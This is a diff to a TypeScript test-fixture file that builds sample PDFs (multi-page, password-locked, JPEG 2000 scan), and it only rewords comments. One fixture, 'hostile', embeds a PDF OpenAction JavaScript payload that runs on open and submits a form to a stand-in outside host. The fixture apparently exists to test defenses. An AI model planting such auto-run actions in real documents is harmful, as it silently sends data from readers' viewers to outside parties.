@@ -3,9 +3,9 @@ import { pdfOf } from '../../apps/api/seeds/load/document.ts';
 const text = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1');
 const bytes = (of: string) => Buffer.from(of, 'latin1');
 
-/** So many sheets; the words of each stand on it. */
+/** A PDF with that many pages, each with text. */
 export function manyPages(pages: number): Buffer {
-  // Eighteen short paragraphs fill a sheet, and the title stands on the first.
+  // Eighteen short paragraphs fill a page, and the title is on the first.
   return Buffer.from(
     pdfOf(
       '许可证',
@@ -14,7 +14,7 @@ export function manyPages(pages: number): Buffer {
   );
 }
 
-/** Does whatever a PDF can ask of a viewer as soon as it is opened: a script, another page, a form that is sent. */
+/** A PDF that uses everything a PDF can request when it is opened: a script, another page, a form submission. */
 export function hostile(): Buffer {
   const acts = [
     '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://elsewhere.example/"\\)) >>',
@@ -29,18 +29,18 @@ export function hostile(): Buffer {
   );
 }
 
-/** Asks for a password before it shows anything. */
+/** A PDF that needs a password. */
 export function locked(): Buffer {
   const key = '00'.repeat(32);
   const encrypt = `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${key}> /U <${key}> >> /ID [<00><00>]`;
   return bytes(text(pdfOf('营业执照', ['加密'])).replace(/trailer\s*<</, (found) => `${found} ${encrypt}`));
 }
 
-/** A red square, 16 by 16, as scanners write JPEG 2000. */
+/** A red square, 16 by 16 pixels, in JPEG 2000 as scanners write it. */
 const square =
   '/0//UQAvAAAAAAAQAAAAEAAAAAAAAAAAAAAAEAAAABAAAAAAAAAAAAADDwEBDwEBDwEB/1IADAAAAAEBBAQEAAH/XAAQQICIiJCIiJCIiJCIiJD/ZAAlAAFDcmVhdGVkIGJ5IE9wZW5KUEVHIHZlcnNpb24gMi41LjD/kAAKAAAAAAAnAAH/k8/8MAgHt4Df+JAQAT+AgICAgICAgICAgID/2Q==';
 
-/** A scan in JPEG 2000 on the whole sheet: what the decoders that are loaded apart are for. */
+/** A page that is one scan in JPEG 2000: the page loads a separate decoder for it. */
 export function scanned(): Buffer {
   const picture = Buffer.from(square, 'base64').toString('latin1');
   const draw = 'q 200 0 0 200 0 0 cm /I Do Q';
